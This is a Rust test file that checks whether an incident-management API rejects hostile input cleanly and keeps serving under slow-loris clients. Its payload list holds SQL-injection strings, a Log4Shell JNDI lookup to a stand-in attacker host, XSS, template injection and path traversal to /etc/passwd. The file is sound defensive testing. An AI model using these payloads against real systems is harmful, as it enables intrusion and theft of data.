//! Hostile input against every endpoint: malformed, truncated and deeply nested JSON, huge label
//! maps and values, invalid UTF-8, NUL bytes, injection strings in every filter, unknown fields,
//! wrong types, duplicate keys, oversized bodies and slow-loris clients. Each case must get a
//! clear 4xx (or, for strings that are only data, an ordinary answer), append nothing, and leave
//! the service serving. The test prints how many cases it tried.

use std::time::Duration;

use copilot_e2e::{TestApp, fixture};
use copilot_events::{Role, subjects};
use reqwest::Method;
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

/// Strings that have broken other systems' queries, templates and parsers.
const NASTY: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE signals; --",
    "\" OR \"\"=\"",
    "1) UNION SELECT token_hash FROM webhook_tokens --",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "%00",
    "\u{0}",
    "../../etc/passwd",
    "\\x00\\xff",
    "\u{202e}gnp.exe",
    "𝕳𝖊𝖑𝖑𝖔 🔥",
];

fn nested(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

struct Case {
    what: String,
    method: Method,
    path: String,
    content_type: &'static str,
    body: Vec<u8>,
    /// Statuses that count as the right answer.
    expect: &'static [u16],
}

fn case(
    what: impl Into<String>,
    method: Method,
    path: &str,
    body: Vec<u8>,
    expect: &'static [u16],
) -> Case {
    Case {
        what: what.into(),
        method,
        path: path.to_owned(),
        content_type: "application/json",
        body,
        expect,
    }
}

/// Bodies every JSON endpoint must refuse: malformed, truncated, nested past the parser's
/// limit, not UTF-8, duplicated keys, wrong types, unknown fields, oversized.
fn hostile_bodies(valid: &[u8]) -> Vec<(String, Vec<u8>, &'static [u16])> {
    let valid = valid.trim_ascii_end();
    let mut bodies: Vec<(String, Vec<u8>, &'static [u16])> = vec![
        ("empty".into(), Vec::new(), &[400, 422]),
        ("not JSON".into(), b"hello".to_vec(), &[400]),
        ("a JSON string".into(), b"\"x\"".to_vec(), &[400, 422]),
        ("null".into(), b"null".to_vec(), &[400, 422]),
        ("an array".into(), b"[]".to_vec(), &[400, 422]),
        (
            "nested 10k deep".into(),
            nested(10_000).into_bytes(),
            &[400, 422],
        ),
        (
            "invalid UTF-8".into(),
            b"{\"a\": \"\xff\xfe\"}".to_vec(),
            &[400, 422],
        ),
        (
            "a lone surrogate".into(),
            br#"{"a": "\ud800"}"#.to_vec(),
            &[400, 422],
        ),
        (
            "duplicate keys".into(),
            br#"{"a": 1, "a": 2}"#.to_vec(),
            &[400, 422],
        ),
        (
            "wrong types".into(),
            br#"{"alerts": "many", "to": 7, "text": [], "role": {}}"#.to_vec(),
            &[400, 422],
        ),
        (
            "5 MiB".into(),
            vec![b' '; 5 * 1024 * 1024],
            &[400, 413, 422],
        ),
    ];
    for cut in [1, valid.len() / 2, valid.len().saturating_sub(1)] {
        bodies.push((
            format!("truncated at {cut}"),
            valid[..cut].to_vec(),
            &[400, 422],
        ));
    }
    bodies
}

#[tokio::test]
async fn hostile_input_gets_a_clear_4xx_appends_nothing_and_the_service_keeps_serving() {
    // Arrange
    let t = TestApp::spawn_with(copilot::app::Services::All, |s| {
        s.http.header_timeout_ms = 1000;
        s.http.body_timeout_ms = 1000;
        s.http.max_body_bytes = 1024 * 1024;
    })
    .await;
    let admin = t.user_jwt("acme", "alice", Role::Admin).await;
    let ops = t.platform_jwt();
    let before: Vec<u64> = {
        let mut counts = Vec::new();
        for stream in [subjects::SIGNALS, subjects::TENANTS, subjects::INCIDENTS] {
            counts.push(t.stream_messages(stream).await);
        }
        counts
    };
    let webhook = fixture("alertmanager-v4-firing-1alert-alerta.json");
    let id = uuid::Uuid::now_v7();
    let mut cases = Vec::new();

    // Every body-taking endpoint, with every hostile body.
    let writes = [
        (Method::POST, "/v1/webhooks/alertmanager".to_owned()),
        (Method::POST, "/v1/webhooks/grafana".to_owned()),
        (Method::POST, format!("/v1/incidents/{id}/transitions")),
        (Method::POST, format!("/v1/incidents/{id}/assign")),
        (Method::POST, format!("/v1/incidents/{id}/notes")),
        (
            Method::POST,
            format!("/v1/incidents/{id}/hypotheses/h/verdict"),
        ),
        (Method::PUT, "/v1/settings/correlation".to_owned()),
        (Method::PUT, "/v1/settings/integrations".to_owned()),
        (Method::PUT, "/v1/settings/retention".to_owned()),
        (Method::POST, "/v1/admin/tenants/acme/users".to_owned()),
        (
            Method::PATCH,
            "/v1/admin/tenants/acme/users/alice".to_owned(),
        ),
        (Method::POST, "/v1/admin/tenants/acme/suspend".to_owned()),
        (Method::PUT, "/v1/settings/secrets/openai".to_owned()),
    ];
    for (method, path) in &writes {
        for (what, body, expect) in hostile_bodies(&webhook) {
            cases.push(case(
                format!("{what} to {method} {path}"),
                method.clone(),
                path,
                body,
                expect,
            ));
        }
        let mut wrong_type = case(
            format!("text/plain to {method} {path}"),
            method.clone(),
            path,
            webhook.clone(),
            &[400, 415],
        );
        wrong_type.content_type = "text/plain";
        cases.push(wrong_type);
    }
    // Unknown fields and values out of range in the API's bodies.
    for (method, path, body) in [
        (
            Method::PUT,
            "/v1/settings/retention",
            json!({"signals_days": 30, "incidents_days": 30, "extra": 1}),
        ),
        (
            Method::PUT,
            "/v1/settings/retention",
            json!({"signals_days": -1, "incidents_days": 30}),
        ),
        (
            Method::PUT,
            "/v1/settings/retention",
            json!({"signals_days": 1e300, "incidents_days": 30}),
        ),
        (
            Method::PUT,
            "/v1/settings/correlation",
            json!({"window_secs": 0}),
        ),
        (
            Method::PUT,
            "/v1/settings/integrations",
            json!({"llm": {"base_url": "javascript:alert(1)", "model": "m"}}),
        ),
        (
            Method::PUT,
            "/v1/settings/integrations",
            json!({"prometheus_url": "http://a\u{0}b"}),
        ),
        (
            Method::POST,
            "/v1/admin/tenants/acme/users",
            json!({"user_id": "a b", "email": "x@y.z", "display_name": "x", "role": "viewer"}),
        ),
        (
            Method::POST,
            "/v1/admin/tenants/acme/users",
            json!({"user_id": "ok", "email": "not-an-email", "display_name": "x", "role": "viewer"}),
        ),
        (
            Method::POST,
            "/v1/admin/tenants/acme/users",
            json!({"user_id": "ok", "email": "x@y.z", "display_name": "x\u{0}", "role": "viewer"}),
        ),
        (
            Method::POST,
            "/v1/admin/tenants/acme/users",
            json!({"user_id": "ok", "email": "x@y.z", "display_name": "x", "role": "root"}),
        ),
        (
            Method::POST,
            "/v1/admin/tenants/acme/suspend",
            json!({"reason": "x".repeat(10_000)}),
        ),
    ] {
        cases.push(case(
            format!("{body} to {method} {path}"),
            method,
            path,
            body.to_string().into_bytes(),
            &[400, 422],
        ));
    }
    // Alerts that are JSON but not alerts the store can keep.
    let alert = |labels: serde_json::Value| {
        serde_json::to_vec(&json!({"version": "4", "status": "firing", "alerts": [
            {"status": "firing", "labels": labels, "annotations": {}, "startsAt": "2026-11-22T09:00:00Z"}]}))
        .unwrap()
    };
    let huge_map: serde_json::Map<String, serde_json::Value> = (0..200_000)
        .map(|i| (format!("l{i}"), json!("v")))
        .collect();
    for (what, body, expect) in [
        ("a NUL in a label", alert(json!({"alertname": "a\u{0}b"})), &[422][..]),
        ("labels as an array", alert(json!(["a", "b"])), &[422]),
        ("a label value that is an object", alert(json!({"a": {"b": 1}})), &[422]),
        ("200k labels (over the body limit)", alert(serde_json::Value::Object(huge_map)), &[413]),
        ("a 2 MiB label value (over the body limit)", alert(json!({"a": "x".repeat(2 * 1024 * 1024)})), &[413]),
        ("no startsAt", br#"{"version":"4","alerts":[{"status":"firing","labels":{"a":"b"}}]}"#.to_vec(), &[422]),
        ("startsAt not a time", br#"{"version":"4","alerts":[{"status":"firing","labels":{"a":"b"},"startsAt":"yesterday"}]}"#.to_vec(), &[422]),
        ("version 99", br#"{"version":"99","alerts":[]}"#.to_vec(), &[422]),
    ] {
        cases.push(case(what, Method::POST, "/v1/webhooks/alertmanager", body, expect));
    }
    // Every filter of every read route, with every nasty string: data, never code.
    let reads = [
        (
            "/v1/signals",
            &[
                "status", "source", "service", "severity", "since", "until", "cursor", "limit",
            ][..],
        ),
        (
            "/v1/incidents",
            &[
                "state", "open", "severity", "service", "label", "since", "until", "q", "sort",
                "cursor", "limit",
            ],
        ),
        ("/v1/stats", &["since", "until"]),
        (
            "/v1/audit",
            &[
                "actor", "action", "target", "since", "until", "cursor", "limit",
            ],
        ),
        ("/v1/incidents/{id}/hypotheses", &["history"]),
    ];
    for (route, params) in reads {
        let path = route.replace("{id}", &id.to_string());
        for param in params {
            for nasty in NASTY {
                let query: String = url_encode(nasty);
                cases.push(case(
                    format!("{param}={nasty:?} on {route}"),
                    Method::GET,
                    &format!("{path}?{param}={query}"),
                    Vec::new(),
                    // Free-text filters answer (nothing matches); typed ones refuse.
                    &[200, 400, 404],
                ));
            }
        }
        cases.push(case(
            format!("an unknown filter on {route}"),
            Method::GET,
            &format!("{path}?nope=1"),
            Vec::new(),
            &[400],
        ));
        cases.push(case(
            format!("a 10k filter on {route}"),
            Method::GET,
            &format!("{path}?{}={}", params[0], "x".repeat(10_000)),
            Vec::new(),
            &[200, 400, 404, 431],
        ));
    }
    for path in [
        "/v1/signals/' OR 1=1",
        "/v1/incidents/..%2F..%2Fadmin",
        "/v1/admin/tenants/ACME'--/users",
    ] {
        cases.push(case(
            format!("GET {path}"),
            Method::GET,
            path,
            Vec::new(),
            &[400, 404],
        ));
    }

    // Act and assert, case by case.
    let mut failures = Vec::new();
    for c in &cases {
        let token = if c.path.starts_with("/v1/webhooks") {
            t.acme.webhook_token.clone()
        } else if c.path.ends_with("/suspend") {
            ops.clone()
        } else {
            admin.clone()
        };
        let response = t
            .http
            .request(c.method.clone(), format!("{}{}", t.url, c.path))
            .bearer_auth(token)
            .header("content-type", c.content_type)
            .body(c.body.clone())
            .send()
            .await;
        match response {
            Ok(r) => {
                let status = r.status().as_u16();
                let is_problem = r
                    .headers()
                    .get("content-type")
                    .is_some_and(|v| v.to_str().unwrap_or("").contains("json"));
                if !c.expect.contains(&status) || (status >= 400 && !is_problem) {
                    failures.push(format!(
                        "{}: got {status} (json body: {is_problem}), wanted {:?}",
                        c.what, c.expect
                    ));
                }
            }
            Err(e) => failures.push(format!("{}: no answer: {e}", c.what)),
        }
    }
    let slow = slow_loris(&t.url, &t.acme.webhook_token).await;
    let after: Vec<u64> = {
        let mut counts = Vec::new();
        for stream in [subjects::SIGNALS, subjects::TENANTS, subjects::INCIDENTS] {
            counts.push(t.stream_messages(stream).await);
        }
        counts
    };
    let healthy = t.get("/healthz", "").await.status();
    let still_works = t
        .post_webhook("alertmanager", &t.acme.webhook_token, webhook.clone())
        .await
        .status();

    eprintln!(
        "hostile input: {} cases plus 2 slow-loris clients",
        cases.len()
    );
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
    assert!(
        slow[0] == "closed" || slow[0].starts_with("HTTP/1.1 408"),
        "a client stalled mid-headers is cut off: {slow:?}"
    );
    assert_eq!(
        slow[1], "HTTP/1.1 400 Bad Request",
        "a client stalled mid-body is refused once the body deadline passes"
    );
    assert_eq!(after[0], before[0], "no hostile webhook appended a signal");
    assert_eq!(
        after[2], before[2],
        "no hostile command appended an incident event"
    );
    assert_eq!(
        after[1], before[1],
        "no hostile administration appended anything"
    );
    assert_eq!(healthy, 200);
    assert_eq!(still_works, 202, "the gateway still takes a good webhook");
}

fn url_encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// Two slow-loris clients: one stops mid-headers, one (with a valid token) mid-body. For each,
/// what the server did within 5 s: the status line it answered, `closed`, or `still waiting`.
async fn slow_loris(url: &str, token: &str) -> Vec<String> {
    let addr = url.trim_start_matches("http://").to_owned();
    let partial_headers =
        "POST /v1/webhooks/alertmanager HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            .to_owned();
    let partial_body = format!(
        "POST /v1/webhooks/alertmanager HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{\"version\":"
    );
    let mut outcomes = Vec::new();
    for request in [partial_headers, partial_body] {
        let mut stream = tokio::net::TcpStream::connect(&addr).await.unwrap();
        stream.write_all(request.as_bytes()).await.unwrap();
        let mut buf = [0u8; 1024];
        let outcome =
            match tokio::time::timeout(Duration::from_secs(5), stream.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => "closed".to_owned(),
                Ok(Ok(n)) => String::from_utf8_lossy(&buf[..n])
                    .lines()
                    .next()
                    .unwrap_or("")
                    .to_owned(),
                Err(_) => "still waiting".to_owned(),
            };
        outcomes.push(outcome);
    }
    outcomes
}

#[tokio::test]
async fn a_nul_or_control_character_in_any_settings_command_is_a_422_and_never_a_dead_letter() {
    // Arrange: the attack's reproduction (a model name with NUL, then with an ANSI escape) and
    // the same in every string of every command that appends to TENANTS.
    let t = TestApp::spawn().await;
    let admin = t.user_jwt("acme", "alice", Role::Admin).await;
    let ops = t.platform_jwt();
    let before = t.stream_messages(subjects::TENANTS).await;
    let llm =
        |model: &str| json!({"llm": {"base_url": "https://api.example.com/v1", "model": model}});
    let mut cases = Vec::new();
    for bad in [
        "gpt\u{0}4",
        "\u{1b}[31mgpt-4\u{1b}[0m",
        "gpt\u{8}4",
        "gpt\u{85}4",
    ] {
        cases.extend([
            (Method::PUT, "/v1/settings/integrations", llm(bad), &admin),
            (
                Method::PUT,
                "/v1/settings/integrations",
                json!({"slack": {"team_id": "T1", "signing_secret": bad}}),
                &admin,
            ),
            (
                Method::PUT,
                "/v1/settings/correlation",
                json!({"group_by": [bad]}),
                &admin,
            ),
            (
                Method::PUT,
                "/v1/settings/secrets/openai",
                json!({"value": bad}),
                &admin,
            ),
            (
                Method::POST,
                "/v1/admin/tenants/acme/users",
                json!({"user_id": "zed", "email": "zed@acme.test", "display_name": bad, "role": "viewer"}),
                &admin,
            ),
            (
                Method::PATCH,
                "/v1/admin/tenants/acme/users/alice",
                json!({"display_name": bad}),
                &admin,
            ),
            (
                Method::POST,
                "/v1/admin/tenants/acme/suspend",
                json!({"reason": bad}),
                &ops,
            ),
            (
                Method::POST,
                "/v1/admin/tenants",
                json!({"slug": "newco", "name": bad}),
                &ops,
            ),
        ]);
    }

    // Act
    let mut answered = Vec::new();
    for (method, path, body, jwt) in &cases {
        let r = t
            .http
            .request(method.clone(), format!("{}{path}", t.url))
            .bearer_auth(jwt.as_str())
            .json(body)
            .send()
            .await
            .unwrap();
        answered.push((r.status().as_u16(), format!("{method} {path} {body}")));
    }
    t.settle(copilot_projector::Projection::Tenants).await;

    // Assert
    let wrong: Vec<_> = answered.iter().filter(|(s, _)| *s != 422).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert_eq!(
        t.stream_messages(subjects::TENANTS).await,
        before,
        "nothing appended"
    );
    assert_eq!(
        t.ctx().store.count_dead_letters("tenants").await.unwrap(),
        0
    );
}
